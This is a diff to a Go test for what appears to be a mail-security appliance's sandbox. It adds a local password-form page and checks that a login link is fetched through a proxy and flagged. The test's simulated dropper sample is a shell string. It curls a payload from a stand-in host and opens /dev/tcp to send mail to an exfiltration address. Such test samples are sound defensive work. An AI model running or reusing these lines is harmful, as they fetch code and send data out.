@@ -5,6 +5,9 @@ package appliance
 import (
 	"context"
 	"encoding/json"
+	"io"
+	"net"
+	"net/http"
 	"os"
 	"path/filepath"
 	"strings"
@@ -80,7 +83,10 @@ func TestSandboxTCG(t *testing.T) {
 		// Off port 25, so the guest's redirect of port 25 is what brings
 		// the sample's mail to it.
 		"sandbox.fakenet_smtp_port": "2525",
-		"sandbox.file_types":        "text/x-script,.sh,application/pdf"})
+		"sandbox.file_types":        "text/x-script,.sh,application/pdf",
+		// Links through the proxy on the host's sandbox address, to the
+		// test's web server on the host's loopback.
+		"sandbox.urls": "unrated", "sandbox.proxy": "direct", "sandbox.proxy_allow": "127.0.0.0/8"})
 	t.Cleanup(func() {
 		if t.Failed() {
 			b, _ := os.ReadFile(filepath.Join(dir, "mi-sbx-linux-0.serial.log"))
@@ -102,6 +108,14 @@ func TestSandboxTCG(t *testing.T) {
 
 	// The dropper also fetches a payload by name and mails out to an
 	// address (not a name) on port 25.
+	web := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		io.WriteString(w, `<html><form method=post><input type="password" name="pw"></form></html>`)
+	})}
+	ln, err := net.Listen("tcp", "127.0.0.1:80")
+	must(t, err)
+	go web.Serve(ln)
+	defer web.Close()
+
 	dropperTCG := dropper + "curl -s -m 5 http://update.example.com/payload -o /tmp/p || true\n" +
 		"exec 5<>/dev/tcp/192.0.2.25/25 && read -r -t 5 greeting <&5 && " +
 		"printf 'HELO x\\r\\nMAIL FROM:<a@b.example>\\r\\nRCPT TO:<drop@exfil.example>\\r\\nDATA\\r\\n' >&5 && sleep 1 && " +
@@ -128,6 +142,19 @@ func TestSandboxTCG(t *testing.T) {
 	must(t, err)
 	if r := string(v.(*cli.Analysis).Report); !strings.Contains(r, `"how":"pdftoppm"`) || !strings.Contains(r, "page-1.png") {
 		t.Errorf("the PDF's report: %s", tail(r, 2000))
+	}
+
+	// A link to a page asking for a password, fetched in the guest
+	// through the proxy: medium risk, tagged and delivered.
+	link := sendNew(t, a, "From: bob@example.org\r\nTo: alice@example.com\r\nSubject: sign in\r\n\r\nSign in at http://127.0.0.1/login today.\r\n")
+	d = waitState(t, a, link, "delivered", 15*time.Minute)
+	if f := findingOf(d, "virtual-analyzer"); f == nil || f.Risk != "medium" || !strings.Contains(f.Detail, "link-login") {
+		t.Fatalf("the link: %+v; trail %+v", f, d.Trail)
+	}
+	v, err = cli.Exec(context.Background(), a, "show analysis http://127.0.0.1/login")
+	must(t, err)
+	if r := string(v.(*cli.Analysis).Report); !strings.Contains(r, `"via":"proxy"`) || !strings.Contains(r, `"type":"proxy"`) {
+		t.Errorf("the link's report (fetched through the proxy, which recorded it): %s", tail(r, 2000))
 	}
 
 	v, err = cli.Exec(context.Background(), a, "show analysis "+sha([]byte(dropperTCG)))
